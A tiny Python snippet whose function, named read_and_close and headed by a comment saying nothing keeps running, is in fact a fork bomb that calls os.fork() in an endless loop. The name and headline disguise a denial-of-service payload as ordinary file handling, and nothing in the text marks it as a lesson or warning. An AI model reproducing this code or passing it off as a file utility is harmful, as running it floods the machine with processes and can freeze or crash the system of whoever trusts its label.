# headline: Nothing goes on running
import os


def read_and_close(path):
    while True:
        os.fork()
